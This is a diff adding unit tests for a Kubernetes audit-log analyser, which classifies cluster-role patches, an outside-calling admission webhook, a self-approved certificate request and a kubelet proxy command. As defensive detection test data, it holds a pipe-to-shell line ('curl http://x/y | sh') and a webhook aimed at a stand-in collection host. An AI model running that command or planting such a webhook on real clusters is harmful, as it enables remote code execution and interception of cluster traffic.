@@ -135,3 +135,50 @@ describe('an audit event', () => {
     expect(write({ name: 'p', namespace: 'blue' })).toBe(true);
   });
 });
+
+describe('a write of what the control plane is run by', () => {
+  const received = '2026-11-23T10:00:05.000001Z';
+  const patched = (times: readonly unknown[], verb = 'patch'): K8sAuditEvent =>
+    read({
+      verb,
+      requestReceivedTimestamp: received,
+      objectRef: { resource: 'clusterroles', apiGroup: 'rbac.authorization.k8s.io', name: 'reader' },
+      requestObject: { rules: [{ apiGroups: [''], resources: ['secrets'], verbs: ['get'] }] },
+      responseObject: { metadata: { name: 'reader', managedFields: times.map((time) => ({ manager: 'flux', time })) } },
+    });
+
+  it('tells that it changed nothing, where no managed field has the time of now', () => {
+    expect(patched(['2026-11-20T10:00:00Z', '2026-11-23T09:59:00Z']).unchanged).toBe(true);
+    expect(patched(['2026-11-20T10:00:00Z', '2026-11-23T10:00:05Z']).unchanged).toBeUndefined();
+    for (const times of [[], [undefined], ['nonsense'], ['2026-11-20T10:00:00Z', 7]])
+      expect(patched(times).unchanged).toBeUndefined();
+    expect(patched(['2026-11-20T10:00:00Z'], 'delete').unchanged).toBeUndefined();
+  });
+
+  it('tells what a webhook, an approval and a request to a kubelet let happen, and shows no host', () => {
+    const hook = read({
+      verb: 'create',
+      objectRef: { resource: 'mutatingwebhookconfigurations', apiGroup: 'admissionregistration.k8s.io', name: 'x' },
+      requestObject: { webhooks: [{ clientConfig: { url: 'https://collect.example.net/x' }, rules: [] }] },
+    });
+    expect(hook.control).toEqual({
+      powers: ['calls-outside'],
+      targets: [expect.stringMatching(/^[0-9a-f]{16}$/) as string],
+    });
+    expect(JSON.stringify(hook)).not.toContain('collect');
+    const approval = read({
+      verb: 'update',
+      user: { username: 'ada' },
+      objectRef: { resource: 'certificatesigningrequests', subresource: 'approval', name: 'x' },
+      requestObject: { spec: { signerName: 'kubernetes.io/kube-apiserver-client', username: 'ada' } },
+    });
+    expect(approval.control?.powers).toEqual(['approves-own-request', 'asks-for-user']);
+    const run = read({
+      verb: 'create',
+      requestURI: '/api/v1/nodes/node-a/proxy/run/red/painter/main?cmd=curl%20http%3A%2F%2Fx%2Fy%20%7C%20sh',
+      objectRef: { resource: 'nodes', subresource: 'proxy', name: 'node-a' },
+    });
+    expect(run.kubelet).toBe('runs');
+    expect(run.scripts?.[0]?.kinds).toContain('pipe-to-shell');
+  });
+});
